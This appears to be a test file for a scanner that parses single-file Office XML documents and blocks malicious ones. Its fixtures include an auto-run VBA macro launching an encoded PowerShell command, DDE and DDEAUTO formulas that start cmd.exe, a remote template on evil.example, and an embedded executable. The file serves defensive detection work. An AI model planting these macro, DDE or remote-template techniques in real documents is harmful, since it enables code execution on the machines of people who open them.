import { describe, expect, it } from "vitest"
import { Budget } from "../../../../adapters/documents/reading/Budget.ts"
import { readXmlDocument } from "../../../../adapters/documents/xml-documents/ReadXmlDocument.ts"
import { documentTypeOf } from "../../../../core/documents/facts/DocumentType.ts"
import { textCharsMax } from "../../../../core/documents/facts/Fact.ts"
import { xmlHeadBytesMax } from "../../../../core/documents/facts/XmlDocumentType.ts"
import { carriers } from "../evasions/Carriers.ts"
import { rate } from "../evasions/Rate.ts"
import { flatOf, makeOdf } from "../odf/MakeOdf.ts"
import { mainTypes, relationshipsXml, run, wordDocument } from "../ooxml/MakeOoxml.ts"
import { makeVba } from "../vba/MakeVba.ts"
import { makeZip } from "../zip/MakeZip.ts"
import { binData, type FlatPart, makeActiveMime, makeExcelXml, makeFlatOpc, makeWordXml } from "./MakeXmlDocuments.ts"

const factsOf = (bytes: Uint8Array) => readXmlDocument(bytes, new Budget()).facts
const paragraph = (text: string): string => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`

const downloader = "Sub AutoOpen()\r\nCreateObject(\"WScript.Shell\").Run \"powershell -enc aQBlAHgA\"\r\nEnd Sub\r\n"
const macros = makeVba([{ name: "M", source: downloader }])

const relationshipsType = "application/vnd.openxmlformats-package.relationships+xml"
const flat = (
  relationships: Parameters<typeof relationshipsXml>[0],
  body: string,
  more: ReadonlyArray<FlatPart> = []
) =>
  makeFlatOpc([
    {
      name: "/_rels/.rels",
      type: relationshipsType,
      content: relationshipsXml([{ id: "r1", type: "officeDocument", target: "word/document.xml" }])
        .replace(/<\?xml.*?\?>/, "")
    },
    {
      name: "/word/_rels/document.xml.rels",
      type: relationshipsType,
      content: relationshipsXml(relationships).replace(/<\?xml.*?\?>/, "")
    },
    { name: "/word/document.xml", type: mainTypes.docx, content: wordDocument(body).replace(/<\?xml.*?\?>/, "") },
    ...more
  ])

const template = {
  id: "r2",
  type: "attachedTemplate",
  target: "https://evil.example/a.dotm",
  mode: "External"
} as const

describe("a package in one XML file", () => {
  it("has the facts of the same package in a ZIP", () => {
    expect(factsOf(flat([template], run("A & B")))).toEqual([
      {
        kind: "reference",
        role: "template",
        target: "https://evil.example/a.dotm",
        where: "word/_rels/document.xml.rels"
      },
      { kind: "text", text: "A & B", pages: 1, where: "document" }
    ])
  })

  it("has the macros of its binary parts", () => {
    const project = { name: "/word/vbaProject.bin", type: "application/vnd.ms-office.vbaProject", content: macros }
    const facts = factsOf(flat([{ id: "r3", type: "vbaProject", target: "vbaProject.bin" }], run("Hello"), [project]))
    expect(facts).toContainEqual(expect.objectContaining({ kind: "vba", where: "word/vbaProject.bin" }))
  })

  it("has the macros of Base64 with a character that does not belong to it, and reports the character", () => {
    const name = "/word/vbaProject.bin"
    const project = { name, type: "application/vnd.ms-office.vbaProject", content: macros }
    const text = Buffer.from(
      flat([{ id: "r3", type: "vbaProject", target: "vbaProject.bin" }], run("Hello"), [project])
    )
      .toString()
    const facts = factsOf(Buffer.from(text.replace("<pkg:binaryData>", "$&!")))
    expect(facts).toContainEqual(expect.objectContaining({ kind: "vba", where: "word/vbaProject.bin" }))
    expect(facts).toContainEqual(expect.objectContaining({ kind: "unread", where: "word/vbaProject.bin" }))
  })

  it("keeps the types of all parts", () => {
    const pictures = Array.from({ length: 2_000 }, (_, at) => ({
      name: `/word/media/${"x".repeat(200)}${at}.png`,
      type: "image/png",
      content: Buffer.from("\x89PNG\r\n\x1a\n", "latin1")
    }))
    const project = { name: "/word/project.bin", type: "application/vnd.ms-office.vbaProject", content: macros }
    expect(factsOf(flat([], run("Hello"), [...pictures, project]))).toContainEqual(
      expect.objectContaining({ kind: "vba", where: "word/project.bin" })
    )
  })

  it("keeps names, namespaces and text of deep XML", () => {
    const link = "<w:p><w:hyperlink r:id=\"r4\"><w:r><w:t>a &lt;b&gt; &quot;c&quot;</w:t></w:r></w:hyperlink></w:p>"
    const hyperlink = {
      id: "r4",
      type: "hyperlink",
      target: "https://a.example/?x=1&y=\"2\"",
      mode: "External"
    } as const
    expect(factsOf(flat([hyperlink], link))).toContainEqual({
      kind: "link",
      url: "https://a.example/?x=1&y=\"2\"",
      text: "a <b> \"c\"",
      from: "relationship",
      where: "word/document.xml"
    })
  })
})

describe("a document of Word 2003 in one XML file", () => {
  it("has its text, fields and links", () => {
    const body = paragraph("Hello") + "<w:hlink w:dest=\"https://a.example/\"><w:r><w:t>here</w:t></w:r></w:hlink>" +
      "<w:p><w:fldSimple w:instr=\" INCLUDETEXT &quot;https://b.example/x&quot; \"><w:r><w:t>y</w:t></w:r></w:fldSimple></w:p>"
    expect(factsOf(makeWordXml(body))).toEqual([
      expect.objectContaining({ kind: "link", url: "https://a.example/" }),
      expect.objectContaining({ kind: "reference", role: "include", target: "https://b.example/x" }),
      { kind: "text", text: expect.stringMatching(/^Hello\n/), pages: 1, where: "document" }
    ])
  })

  it.each([
    ["attachedTemplate", "<w:docPr><w:attachedTemplate w:val=\"https://e.example/a.dot\"/></w:docPr>", "template"],
    ["subDoc", "<w:subDoc w:link=\"https://e.example/a.dot\"/>", "subdocument"],
    ["sourceFileName", "<w:frame><w:sourceFileName w:val=\"https://e.example/a.dot\"/></w:frame>", "frame"],
    ["dataSource", "<w:mailMerge><w:dataSource w:val=\"https://e.example/a.dot\"/></w:mailMerge>", "mailmerge"],
    ["imagedata", "<v:imagedata src=\"https://e.example/a.dot\"/>", "image"]
  ])("has the address of %s", (_, more, role) => {
    expect(factsOf(makeWordXml("", more))).toEqual([
      { kind: "reference", role, target: "https://e.example/a.dot", where: "document" }
    ])
  })

  it("has the macros in its binary data", () => {
    const data = `<w:docSuppData>${binData("editdata.mso", makeActiveMime(macros))}</w:docSuppData>`
    expect(factsOf(makeWordXml("", data))).toEqual([
      expect.objectContaining({ kind: "vba", modules: [expect.objectContaining({ name: "M" })], isMisplaced: false })
    ])
  })

  it("has the macros of damaged Base64, and reports the damage", () => {
    const facts = factsOf(
      makeWordXml("", binData("editdata.mso", makeActiveMime(macros)).replace(/(<w:binData[^>]*>)/, "$1!"))
    )
    expect(facts.map(({ kind }) => kind)).toEqual(["unread", "vba"])
  })

  it("reports the style sheet that it loads", () => {
    const facts = factsOf(makeWordXml("", "", "<?xml-stylesheet type=\"text/xsl\" href='https://e.example/a.xsl'?>"))
    expect(facts).toEqual([{ kind: "reference", role: "other", target: "https://e.example/a.xsl", where: "document" }])
    expect(factsOf(makeWordXml("", "", "<?xml-stylesheet href=\"style.xsl\"?>"))).toEqual([])
  })

  it("reports data that cannot be decoded", () => {
    expect(factsOf(makeWordXml("<w:binData w:name=\"a\">%%%</w:binData>"))).toEqual([
      expect.objectContaining({ kind: "unread" })
    ])
  })
})

describe("a workbook in one XML file", () => {
  it("has its text, links and formulas", () => {
    const rows = "<Row><Cell ss:HRef=\"https://a.example/\"><Data ss:Type=\"String\">Open</Data></Cell>" +
      "<Cell ss:Formula=\"=HYPERLINK(&quot;https://b.example/&quot;,&quot;there&quot;)\"><Data>there</Data></Cell>" +
      "<Cell ss:HRef=\"#Sheet1!A1\"><Data>local</Data></Cell><Cell ss:HRef=\"https://c.example/\"/></Row>"
    expect(factsOf(makeExcelXml(rows))).toEqual([
      { kind: "link", url: "https://a.example/", text: "Open", from: "field", where: "document" },
      { kind: "link", url: "https://b.example/", text: "there", from: "field", where: "document" },
      { kind: "link", url: "https://c.example/", text: null, from: "field", where: "document" },
      { kind: "text", text: "Open\nthere\nlocal", pages: null, where: "document" }
    ])
  })

  it("reports that it has more text than is kept", () => {
    const cell = (length: number) => `<Row><Cell><Data>${"x".repeat(length)}</Data></Cell></Row>`
    const kindsOf = (count: number) => factsOf(makeExcelXml(cell(1_000).repeat(count))).map(({ kind }) => kind)
    expect(kindsOf(Math.floor(textCharsMax / 1_001))).toEqual(["text"])
    expect(kindsOf(Math.ceil(textCharsMax / 1_000) + 1)).toEqual(["cut off", "text"])
  })

  it("has its names and data sources", () => {
    const more = "<Names><NamedRange ss:Name=\"Auto_Open\" ss:RefersTo=\"=Sheet1!R1C1\"/></Names>" +
      "<x:QueryTable><x:QuerySource><x:URLString>https://d.example/</x:URLString></x:QuerySource></x:QueryTable>"
    expect(factsOf(makeExcelXml("", more))).toEqual([
      { kind: "auto name", name: "Auto_Open", refersTo: "Sheet1!R1C1", where: "document" },
      { kind: "reference", role: "data", target: "https://d.example/", where: "document" }
    ])
  })
})

const dde = "<Row><Cell ss:Formula=\"=cmd|'/c calc.exe'!A0\"><Data ss:Type=\"String\">1</Data></Cell></Row>"
const list = "<Row><Cell><Data ss:Type=\"String\">Invoice 12</Data></Cell><Cell><Data>250.00</Data></Cell></Row>"

/** Attacks in one XML file. */
const attacks: ReadonlyArray<readonly [string, Uint8Array]> = [
  ["a remote template", flat([template], run("Hello"))],
  ["macros in ActiveMime", makeWordXml(paragraph("Hi"), binData("editdata.mso", makeActiveMime(macros)))],
  ["macros without ActiveMime", makeWordXml(paragraph("Hi"), binData("x", macros))],
  ["a program", makeWordXml(paragraph("Hi"), binData("a.exe", Buffer.from(`MZ${"x".repeat(300)}`)))],
  [
    "a template on a share",
    makeWordXml(paragraph("Hi"), "<w:docPr><w:attachedTemplate w:val=\"\\\\e.example\\s\\a.dot\"/></w:docPr>")
  ],
  [
    "a command in a field",
    makeWordXml(
      "<w:p><w:fldSimple w:instr=\"DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;\"/></w:p>"
    )
  ],
  ["a command in a cell", makeExcelXml(dde)]
]

/** Ordinary documents that resemble the attacks. */
const ordinary: ReadonlyArray<readonly [string, Uint8Array]> = [
  ["a package without relationships to elsewhere", flat([], run("Hello"))],
  ["a letter", makeWordXml(paragraph("Dear Ann"), "<w:docPr><w:attachedTemplate w:val=\"Normal.dot\"/></w:docPr>")],
  [
    "a letter with data of its program",
    makeWordXml(paragraph("Hi"), binData("editdata.mso", Buffer.from("\x89PNG\r\n")))
  ],
  ["a page number", makeWordXml(`${paragraph("Hi")}<w:p><w:fldSimple w:instr=" PAGE "/></w:p>`)],
  ["a list of a bank", makeExcelXml(list)],
  ["a sum", makeExcelXml("<Row><Cell ss:Formula=\"=SUM(R1C1:R2C1)\"><Data ss:Type=\"Number\">3</Data></Cell></Row>")],
  ["a flat text of LibreOffice", flatOf("<office:body><office:text><text:p>Hi</text:p></office:text></office:body>")]
]

describe("an Office document of one XML file", () => {
  it.each(attacks)("is blocked for %s", (_, bytes) => expect(rate(bytes)[0]).toBe("block"))
  it.each(attacks)("is not rated ok within another document for %s", (_, bytes) => {
    for (const [where, carry] of carriers) expect(rate(carry(bytes, "a.xml"))[0], where).not.toBe("ok")
  })
  it.each(ordinary)("is rated ok if it is %s", (_, bytes) => expect(rate(bytes)[0]).toBe("ok"))
})

describe("the type of an XML file", () => {
  const word = makeWordXml(paragraph("Hi"))
  const text = Buffer.from(word).toString()

  it.each([
    ["UTF-16, little endian", Buffer.from(`\ufeff${text}`, "utf16le")],
    ["UTF-16, big endian", Buffer.from(`\ufeff${text}`, "utf16le").swap16()],
    ["a byte order mark", Buffer.from(`\ufeff${text}`)],
    ["blanks before", Buffer.from(`\r\n  ${text}`)],
    ["a long comment before", Buffer.from(text.replace("<w:", `<!--${" > <a> ".repeat(5_000)}--><w:`))],
    ["another prefix", Buffer.from(text.replaceAll("w:", "ns0:").replaceAll("xmlns:w", "xmlns:ns0"))]
  ])("is found with %s", (_, bytes) => expect(documentTypeOf(bytes)).toBe("xml"))

  it.each([
    ["another root", "<a xmlns=\"http://schemas.microsoft.com/office/word/2003/wordml\"/>"],
    ["another namespace", "<w:wordDocument xmlns:w=\"urn:x\"/>"],
    [
      "a name in a comment",
      "<!-- <w:wordDocument xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\"> --><a/>"
    ],
    ["no element", "<?xml version=\"1.0\"?>"],
    ["an open comment", "<!-- "],
    ["text", "a < b"]
  ])("is none with %s", (_, text) => expect(documentTypeOf(Buffer.from(text))).toBeNull())

  it("is not searched beyond its limit", () => {
    expect(documentTypeOf(Buffer.from(text.replace("<w:", `<!--${" ".repeat(xmlHeadBytesMax)}--><w:`)))).toBeNull()
  })
})

describe("an OpenDocument package", () => {
  const parts = { "content.xml": "<office:document-content/>", "META-INF/manifest.xml": "<manifest/>" }
  const zipOf = (names: Readonly<Record<string, string>>) =>
    makeZip(Object.entries(names).map(([name, content]) => ({ name, content })))

  it("is recognized with a compressed type, or without one", () => {
    expect(documentTypeOf(makeOdf({}))).toBe("odf")
    expect(documentTypeOf(zipOf({ mimetype: "application/vnd.oasis.opendocument.text", ...parts }))).toBe("odf")
    expect(documentTypeOf(zipOf(parts))).toBe("odf")
    expect(documentTypeOf(zipOf({ "content.xml": "<a/>" }))).toBeNull()
  })
})
